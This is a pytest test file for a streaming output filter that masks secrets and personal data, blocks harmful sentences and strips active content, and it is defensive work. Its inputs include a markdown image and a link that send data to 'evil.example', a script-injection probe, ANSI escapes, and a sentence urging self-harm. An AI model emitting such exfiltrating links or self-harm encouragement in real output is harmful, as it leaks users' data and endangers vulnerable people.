"""What is masked never shows, wherever the pieces of a stream are cut."""

from __future__ import annotations

import itertools
import json
import random
import re
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autogpt.core.messages import TokenLogprob
from autogpt.safety.policy import Policy, Rule
from autogpt.safety.rails import Rails
from tests.safety import planted

MASKING = Policy(
    rules={
        "secrets": Rule(action="mask"),
        "personal": Rule(action="mask"),
        "active": Rule(action="mask"),
        "encouragement": Rule(action="refuse"),
    }
)
BEFORE = (
    "Here it is: ",
    "The number is\n",
    "联系方式是",
    "It says (",
    "Dear Ada. My key: ",
    '{"a": "',
)
AFTER = (" and that is all.", "，谢谢。再见！", ". Then more.\n", ") was there", '"}', "")


def shown(rails: Rails, pieces: Sequence[str]) -> str:
    rail = rails.output()
    texts = [rail.push(piece).text for piece in pieces]
    return "".join([*texts, rail.close().text])


def spans(count: int) -> list[tuple[str, str, str]]:
    chance = random.Random(5)
    made: list[tuple[str, str, str]] = []
    while len(made) < count:
        values = [*planted.secrets(chance).values(), *planted.personal(chance).values()]
        made += [(chance.choice(BEFORE), value, chance.choice(AFTER)) for value in values]
    return made[:count]


def leaked(text: str, value: str, frame: str) -> int:
    """Return how many characters in a row, four or more, of ``value`` a text shows."""
    text = re.sub(r"\[[A-Z0-9_]+\]", "\n", text)
    for size in range(len(value), 3, -1):
        for start in range(len(value) - size + 1):
            part = value[start : start + size]
            if part in text and part not in frame:
                return size
    return 0


# In single characters, and in two pieces at four places; at all places: benchmarks/leaks.py.
@pytest.mark.parametrize("part", range(10))
def test_no_character_of_a_planted_span_is_shown(part: int) -> None:
    rails = Rails(MASKING)
    chance = random.Random(part)
    for before, value, after in spans(1000)[part::10]:
        text = before + value + after
        whole = shown(rails, [text])
        assert not leaked(whole, value, before + after), (text, whole)
        if part < 3:
            assert shown(rails, list(text)) == whole
        for _ in range(4):
            cut = chance.randrange(len(before), len(before) + len(value) + 1)
            assert shown(rails, [text[:cut], text[cut:]]) == whole, (text, cut)


@pytest.mark.parametrize("value", spans(37), ids=lambda value: value[1][:12])
def test_every_split_point(value: tuple[str, str, str]) -> None:
    rails = Rails(MASKING)
    text = "".join(value)
    whole = shown(rails, [text])
    for cut in range(len(text) + 1):
        assert shown(rails, [text[:cut], text[cut:]]) == whole


def test_spans_deep_in_a_text_without_sentence_ends() -> None:
    rails = Rails(MASKING)
    for seed, (_, value, _) in enumerate(spans(60)):
        chance = random.Random(seed)
        words = chance.choices(["word", "字", "more text,", "3 of", "x1"], k=150)
        place = chance.randrange(150)
        text = " ".join([*words[:place], value, *words[place:]])
        pieces, rest = [], text
        while rest:
            size = chance.randrange(1, 6)
            pieces.append(rest[:size])
            rest = rest[size:]
        found = shown(rails, pieces)
        assert value not in found
        assert not leaked(found, value, " ".join(words)), (value, found)


def test_text_is_let_through_sentence_by_sentence() -> None:
    rail = Rails(MASKING).output()
    assert rail.push("The first sentence").text == ""
    assert rail.push(".").text == ""  # a dot may be inside an address
    assert rail.push(" And").text == "The first sentence."
    assert rail.push(" the second。然后").text.endswith("second。")
    assert rail.close().text == "然后"


def test_after_64_tokens_it_does_not_wait_for_a_sentence() -> None:
    rail = Rails(MASKING).output()
    passed = [rail.push(f"word{i} ").text for i in range(64)]
    assert not any(passed[:63])
    assert passed[63].startswith("word0 word1 ")


def test_a_block_ends_it_and_shows_nothing_of_the_sentence() -> None:
    rail = Rails(MASKING).output()
    pieces = ["All is well. ", "You should ", "just kill ", "yourself", ". Then", " more. ", "x"]
    passed = [rail.push(piece) for piece in pieces]
    assert "".join(each.text for each in passed).strip() == "All is well."
    assert passed[-1].blocked
    assert rail.close().text == ""
    assert rail.verdict is not None
    assert rail.verdict.category == "encouragement"
    assert "safety rail" in rail.answer


def test_placeholders_are_led_back_in_any_pieces() -> None:
    rails = Rails(MASKING)
    admitted = rails.admit(["I am ada@example.org"])
    for cut in range(20):
        text = "Dear [EMAIL_1], hello."
        rail = rails.output(admitted.vault)
        found = rail.push(text[:cut]).text + rail.push(text[cut:]).text + rail.close().text
        assert found == "Dear ada@example.org, hello."


def test_log_probabilities_of_what_is_masked_are_left_out() -> None:
    rail = Rails(MASKING).output()
    tokens = ["Ask ", "ada", "@exam", "ple.org", " to", "day. "]
    entries = [TokenLogprob(token=t, token_bytes=t.encode(), logprob=-1.0) for t in tokens]
    passed = [rail.push(t, [e]) for t, e in zip(tokens, entries, strict=True)]
    passed.append(rail.close())
    assert "".join(each.text for each in passed) == "Ask [EMAIL] today. "
    assert [e.token for each in passed for e in each.logprobs] == ["Ask ", " to", "day. "]


def test_active_content_is_taken_out() -> None:
    rails = Rails("default")
    for text, left in (
        ("\x1b[31mred\x1b[0m text", "[CONTROL]red[CONTROL] text"),
        ("![x](https://evil.example/p.png?d=secret) ok", "[IMAGE] ok"),
        ("See [this](https://evil.example/?q=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) ok", "See [IMAGE] ok"),
        ("See [this](https://example.org/page) ok", "See [this](https://example.org/page) ok"),
    ):
        assert shown(rails, list(text)) == left
    page = "<p>Hi</p><script>alert(1)</script>"
    assert shown(Rails("strict"), list(page)) == "<p>Hi</p>[SCRIPT]"
    assert shown(rails, list(page)) == page


@settings(max_examples=60)
@given(st.text(max_size=200), st.data())
def test_a_stream_is_what_the_whole_text_gives(text: str, data: st.DataObject) -> None:
    rails = Rails(MASKING)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    edges = [0, *cuts, len(text)]
    pieces = [text[a:b] for a, b in itertools.pairwise(edges)]
    assert shown(rails, pieces) == shown(rails, [text])


def test_what_must_match_a_form_is_ended_and_not_masked() -> None:
    rails = Rails(MASKING)
    for form in ("json", "fixed"):
        rail = rails.output(form=form)  # type: ignore[arg-type]
        passed = [rail.push(piece).text for piece in ('{"to": "', "eve@example", '.org"}')]
        assert rail.close().blocked
        assert rail.verdict is not None
        assert rail.verdict.category == "personal.email"
        assert "eve@" not in "".join(passed)


def test_a_placeholder_is_led_back_as_json_spells_it() -> None:
    secret = "password: ab\\cd12!"
    admission = Rails(MASKING).admit([secret])
    (name,) = re.findall(r"\[[A-Z_]+_1\]", admission.texts[0])
    rail = Rails(MASKING).output(admission.vault, form="json")
    text = rail.push(f'{{"p": "{name}"}}').text + rail.close().text
    assert json.loads(text)["p"] in secret
